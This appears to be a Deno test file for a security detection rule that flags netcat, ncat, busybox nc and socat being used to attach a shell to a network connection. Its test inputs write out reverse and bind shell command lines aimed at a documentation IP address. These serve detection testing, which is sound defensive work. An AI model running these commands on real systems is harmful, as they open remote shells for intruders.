import { deepStrictEqual } from "node:assert/strict";
import { event, fault } from "tallyman/testing";
import { messages } from "../tests/rules/messages.ts";
import rule from "./netcat_exec.ts";

const exec = (...argv: string[]) =>
  event("execve", { path: `/bin/${argv[0]}`, argv }, { process: { comm: "sh" } });

Deno.test("netcat-exec: netcat in its variants, socat", () => {
  const inputs = [
    exec("nc", "-e", "/bin/sh", "203.0.113.7", "9"),
    exec("busybox", "nc", "-lp", "9", "-e", "sh"),
    exec("ncat", "--exec", "/bin/sh", "203.0.113.7"),
    exec("ncat", "-lvc", "sh"),
    exec("socat", "TCP:203.0.113.7:9", "EXEC:sh,pty"),
  ];
  deepStrictEqual(messages(rule, inputs), [
    "sh ran nc -e /bin/sh 203.0.113.7 9",
    "sh ran nc -lp 9 -e sh",
    "sh ran ncat --exec /bin/sh 203.0.113.7",
    "sh ran ncat -lvc sh",
    "sh ran socat TCP:203.0.113.7:9 EXEC:sh,pty",
  ]);
});

Deno.test("netcat-exec: not waiting for a port, not forwarding", () => {
  const inputs = [
    exec("nc", "-z", "db", "5432"),
    exec("socat", "TCP-LISTEN:80,fork", "TCP:db:80"),
    exec("sh", "-c", "x"),
    event("execve", { path: "/bin/nc", argv: fault() }),
  ];
  deepStrictEqual(messages(rule, inputs), []);
});

Deno.test("netcat-exec: not what failed", () => {
  deepStrictEqual(
    messages(rule, [
      event("execve", { path: "/nc", argv: ["nc", "-e", "sh"] }, { error: "ENOENT" }),
    ]),
    [],
  );
});
